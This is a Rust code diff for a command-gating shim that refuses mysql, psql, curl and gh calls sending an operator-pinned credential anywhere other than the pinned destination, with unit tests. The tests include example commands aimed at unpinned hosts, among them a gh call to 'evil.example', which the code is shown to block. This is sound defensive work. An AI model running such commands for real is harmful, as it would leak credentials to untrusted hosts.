@@ -50,6 +50,9 @@ pub struct Request {
     pub dry_run_pinned: bool,
     /// `env:` in `tiershim.yaml`.
     pub pinned: BTreeMap<String, String>,
+    /// The tool's credential the operator pinned (in `env:` or the secrets file), if any: then
+    /// the call may only connect where the pins say ([`Claim::Destination`]).
+    pub pinned_credential: Option<String>,
     /// The caller's values of the policy's `must_match` variables that are set.
     pub caller_env: BTreeMap<String, String>,
     /// The paths this install's real gh is known by (as configured, and canonical).
@@ -565,6 +568,35 @@ fn check_claims(tool: Tool, policy: &Policy, inv: &Invocation, req: &Request, ou
                         "git -c credential.helper".to_string(),
                         format!("credential.helper=!{} is not this install's real gh", escape(path)),
                         "let gh run git itself (gh pr create pushes for you)",
+                    ));
+                }
+            }
+            Claim::Destination { var, value, flag } => {
+                // On a remote host the operator's pins mean nothing; nothing pinned goes there.
+                if req.remote_host.is_some() {
+                    continue;
+                }
+                if let Some(cred) = &req.pinned_credential
+                    && req.pinned.get(*var) != Some(value)
+                {
+                    let pinned = match req.pinned.get(*var) {
+                        Some(p) => format!("the pinned {var}={}", escape(&redact(p))),
+                        None => format!("{var}, which this install does not pin"),
+                    };
+                    let value = escape(&redact(value)).into_owned();
+                    out.push(never(
+                        tool,
+                        policy,
+                        "credential-destination",
+                        format!("{tool} {} {value}", escape(flag)),
+                        format!(
+                            "{} {value}: the pinned {cred} is only ever sent to the pinned destination, and this is not {pinned}",
+                            escape(flag),
+                        ),
+                        &format!(
+                            "drop {}: the pinned credential goes to the pinned {var} only (or ask the operator to pin {var})",
+                            escape(flag)
+                        ),
                     ));
                 }
             }
@@ -1131,6 +1163,43 @@ mod tests {
         );
         assert_eq!(d.parts[1].host, "ie01");
         assert_eq!(d.what, "restarting, starting or stopping a container on ie01");
+    }
+
+    #[test]
+    fn with_a_credential_pinned_a_call_connects_only_where_the_pins_say() {
+        let judge = |tool: Tool, words: &[&str], cred: Option<&str>, pins: &[(&str, &str)]| {
+            let req = Request {
+                pinned_credential: cred.map(str::to_string),
+                pinned: pins.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+                facts: Facts {
+                    skill_tiers: Some(BTreeMap::new()),
+                    ..Facts::default()
+                },
+                ..at(3)
+            };
+            let d = decide(&parse(tool, &argv(words)), &Policy::embedded(tool).unwrap(), &req);
+            (d.verdict, d.rule)
+        };
+        let refused = |t: Tool| (Verdict::Refuse, format!("{t}.credential-destination"));
+        let mysql = ["-h", "10.9.9.9", "-e", "select 1"];
+        assert_eq!(judge(Tool::Mysql, &mysql, None, &[]).0, Verdict::Allow);
+        assert_eq!(judge(Tool::Mysql, &mysql, Some("MYSQL_PWD"), &[]), refused(Tool::Mysql));
+        let pinned_host = [("MYSQL_HOST", "10.9.9.9")];
+        assert_eq!(judge(Tool::Mysql, &mysql, Some("MYSQL_PWD"), &pinned_host).0, Verdict::Allow);
+        let psql = ["-h", "db", "-p", "6432", "-c", "select 1"];
+        assert_eq!(
+            judge(Tool::Psql, &psql, Some("PGPASSWORD"), &[("PGHOST", "db"), ("PGPORT", "5432")]),
+            refused(Tool::Psql)
+        );
+        let curl = ["-x", "http://10.9.9.9:3128", "http://example.com/"];
+        assert_eq!(judge(Tool::Curl, &curl, None, &[]).0, Verdict::Allow);
+        assert_eq!(judge(Tool::Curl, &curl, Some("HTTPS_PROXY"), &[]), refused(Tool::Curl));
+        // gh sends its token only to github.com or the pinned host, whatever option names it.
+        let gh = ["attestation", "download", "a.tgz", "-R", "o/r", "--hostname", "evil.example"];
+        assert_eq!(
+            judge(Tool::Gh, &gh, None, &[("GH_HOST", "ghe.example")]),
+            (Verdict::Refuse, "gh.pinned".to_string())
+        );
     }
 
     #[test]
